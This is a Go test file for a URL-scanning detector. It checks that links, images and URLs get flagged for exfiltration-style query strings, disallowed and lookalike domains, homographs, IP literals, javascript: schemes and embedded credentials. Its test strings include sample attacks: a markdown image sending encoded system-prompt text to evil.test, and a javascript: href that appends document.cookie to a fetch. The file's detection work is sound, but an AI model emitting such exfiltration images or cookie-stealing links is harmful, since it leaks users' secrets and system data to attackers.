package detect

import (
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestURLs(t *testing.T) {
	d := NewURLs([]string{"example.com", " Docs.Corp.Test. "})
	tests := []struct {
		name string
		text string
		want []string
	}{
		{"exfil image", "Done! ![img](https://evil.test/p.png?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtdGV4dA)",
			[]string{"markdown_image=![img](https://evil.test/p.png?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtdGV4dA)",
				"domain_not_allowed=https://evil.test/p.png?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtdGV4dA",
				"exfil_query=https://evil.test/p.png?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtdGV4dA"}},
		{"image without data", "![logo](https://cdn.other.test/logo.png)", []string{"markdown_image=![logo](https://cdn.other.test/logo.png)", "domain_not_allowed=https://cdn.other.test/logo.png"}},
		{"allowed image", "![logo](https://img.example.com/logo.png?user=alice)", nil},
		{"allowed subdomain link", "see [docs](https://api.docs.corp.test/v1?q=1)", nil},
		{"lookalike domain is not allowed", "[x](https://example.com.evil.test/)", []string{"link=[x](https://example.com.evil.test/)", "domain_not_allowed=https://example.com.evil.test/"}},
		{"link with sentence in query", "[click](https://t.test/c?note=the%20admin%20password%20is%20hunter2)",
			[]string{"link=[click](https://t.test/c?note=the%20admin%20password%20is%20hunter2)",
				"domain_not_allowed=https://t.test/c?note=the%20admin%20password%20is%20hunter2",
				"exfil_query=https://t.test/c?note=the%20admin%20password%20is%20hunter2"}},
		{"many params", "https://t.test/x?a=1&b=2&c=3&d=4&e=5&f=6.",
			[]string{"domain_not_allowed=https://t.test/x?a=1&b=2&c=3&d=4&e=5&f=6", "exfil_query=https://t.test/x?a=1&b=2&c=3&d=4&e=5&f=6", "link=https://t.test/x?a=1&b=2&c=3&d=4&e=5&f=6"}},
		{"ordinary query", "Search https://www.search.test/?q=go+regexp for more.", []string{"domain_not_allowed=https://www.search.test/?q=go+regexp", "link=https://www.search.test/?q=go+regexp"}},
		{"ip literal", "fetch http://10.0.0.5:8080/admin", []string{"domain_not_allowed=http://10.0.0.5:8080/admin", "ip_literal=http://10.0.0.5:8080/admin", "link=http://10.0.0.5:8080/admin"}},
		{"ipv6 literal", "http://[::1]/x", []string{"domain_not_allowed=http://[::1]/x", "ip_literal=http://[::1]/x", "link=http://[::1]/x"}},
		{"data url", "![a](data:image/png;base64,iVBORw0KGgo=)", []string{"markdown_image=![a](data:image/png;base64,iVBORw0KGgo=)", "data_url=data:image/png;base64,iVBORw0KGgo="}},
		{"bare data url", "src: data:text/html;base64,PHNjcmlwdD4=", []string{"data_url=data:text/html;base64,PHNjcmlwdD4="}},
		{"html image", `<img src="https://e.test/a.gif?x=aGVsbG8td29ybGQtc2VjcmV0">`,
			[]string{`markdown_image=<img src="https://e.test/a.gif?x=aGVsbG8td29ybGQtc2VjcmV0">`, "domain_not_allowed=https://e.test/a.gif?x=aGVsbG8td29ybGQtc2VjcmV0", "exfil_query=https://e.test/a.gif?x=aGVsbG8td29ybGQtc2VjcmV0"}},
		{"relative link", "see [help](/help) and [top](#top)", nil},
		{"trailing punctuation", "(see https://a.test/page).", []string{"domain_not_allowed=https://a.test/page", "link=https://a.test/page"}},
		{"file url", "open file:///etc/passwd", []string{"link=file:///etc/passwd"}},
		{"no urls", "Version 1.2.3 was released on 2024-01-15.", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := d.Scan(tt.text)
			checkFindings(t, d, tt.text, fs)
			if diff := cmp.Diff(tt.want, typed(tt.text, fs)); diff != "" {
				t.Errorf("Scan(%q) mismatch (-want +got):\n%s", tt.text, diff)
			}
		})
	}
}

// TestURLsNoAllowList covers the finding types that do not depend on an
// allow-list; without one, domain_not_allowed never appears.
func TestURLsNoAllowList(t *testing.T) {
	d := NewURLs(nil)
	tests := []struct {
		name    string
		text    string
		want    []string
		flagged bool
	}{
		{"plain link", "Read https://go.dev/doc/effective_go for style.", []string{"link=https://go.dev/doc/effective_go"}, false},
		{"javascript link", "[click me](javascript:alert(document.cookie))", []string{"javascript_url=javascript:alert(document.cookie)"}, true},
		{"javascript href", `<a href="JavaScript:fetch('//e.test/'+document.cookie)">x</a>`, []string{"javascript_url=JavaScript:fetch('//e.test/'+document.cookie)"}, true},
		{"prose about the scheme", "Avoid the javascript: scheme in links.", nil, false},
		{"vbscript", "vbscript:msgbox(1)", []string{"javascript_url=vbscript:msgbox(1)"}, true},
		{"credentials", "clone https://bob:s3cretPass@git.corp.test/repo.git", []string{"link=https://bob:s3cretPass@git.corp.test/repo.git", "url_credentials=https://bob:s3cretPass@git.corp.test/repo.git"}, true},
		{"user without password", "ssh://git@github.com/org/repo.git", nil, false},
		{"shortener", "details at https://bit.ly/3xYzAbC", []string{"link=https://bit.ly/3xYzAbC", "url_shortener=https://bit.ly/3xYzAbC"}, true},
		{"decimal ip", "go to http://2130706433/admin", []string{"ip_literal=http://2130706433/admin", "link=http://2130706433/admin"}, true},
		{"hex ip", "http://0x7f.0x0.0x0.0x1/", []string{"ip_literal=http://0x7f.0x0.0x0.0x1/", "link=http://0x7f.0x0.0x0.0x1/"}, true},
		{"cyrillic homograph", "login at https://аpple.com/id", []string{"idn_homograph=https://аpple.com/id", "link=https://аpple.com/id"}, true},
		{"punycode homograph", "login at https://xn--pple-43d.com/id", []string{"idn_homograph=https://xn--pple-43d.com/id", "link=https://xn--pple-43d.com/id"}, true},
		{"all-lookalike cyrillic", "https://хорошо.test/ and https://асе.com/", []string{"link=https://хорошо.test/", "idn_homograph=https://асе.com/", "link=https://асе.com/"}, true},
		{"plain idn", "https://bücher.example/ and https://xn--bcher-kva.example/", []string{"link=https://bücher.example/", "link=https://xn--bcher-kva.example/", "punycode=https://xn--bcher-kva.example/"}, true},
		{"unknown scheme", "open foo://www.evil.test/x now", []string{"link=//www.evil.test/x"}, false},
		{"port is not ip", "http://localhost:8080/health", []string{"link=http://localhost:8080/health"}, false},
		{"version numbers", "upgrade from 1.2.3 to 10.20.30", nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := d.Scan(tt.text)
			checkFindings(t, d, tt.text, fs)
			if diff := cmp.Diff(tt.want, typed(tt.text, fs)); diff != "" {
				t.Errorf("Scan(%q) mismatch (-want +got):\n%s", tt.text, diff)
			}
			if got := miscScore(fs) >= 0.5; got != tt.flagged {
				t.Errorf("Scan(%q): score %.2f, flagged=%v, want %v", tt.text, miscScore(fs), got, tt.flagged)
			}
		})
	}
}

func TestPunycodeDecode(t *testing.T) {
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"bcher-kva", "bücher", true},
		{"pple-43d", "аpple", true},
		{"80ak6aa92e", "аррӏе", true},
		{"wgv71a119e", "日本語", true},
		{"-> $1.00 <--", "-> $1.00 <-", true}, // RFC 3492 sample S
		{"a-b!", "", false},
		{"", "", false},
		{"zzzzzzzzzzzzzz", "", false},
	}
	for _, tt := range tests {
		got, ok := punycodeDecode(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("punycodeDecode(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func FuzzPunycodeDecode(f *testing.F) {
	for _, s := range []string{"bcher-kva", "pple-43d", "80ak6aa92e", "a-b-c", "99999999999"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if dec, ok := punycodeDecode(s); ok && !utf8.ValidString(dec) {
			t.Fatalf("punycodeDecode(%q) = %q, not valid UTF-8", s, dec)
		}
	})
}

func BenchmarkURLs2KiB(b *testing.B) {
	d := NewURLs([]string{"example.com"})
	for _, tc := range []struct{ name, text string }{
		{"no_urls", miscPrompt2KiB},
		{"with_urls", miscPrompt2KiB[:1900] + " see https://docs.example.com/a and ![x](https://e.test/p.png?d=c2VjcmV0)"},
	} {
		b.Run(tc.name, func(b *testing.B) {
			b.SetBytes(int64(len(tc.text)))
			b.ReportAllocs()
			for b.Loop() {
				_ = d.Scan(tc.text)
			}
		})
	}
}
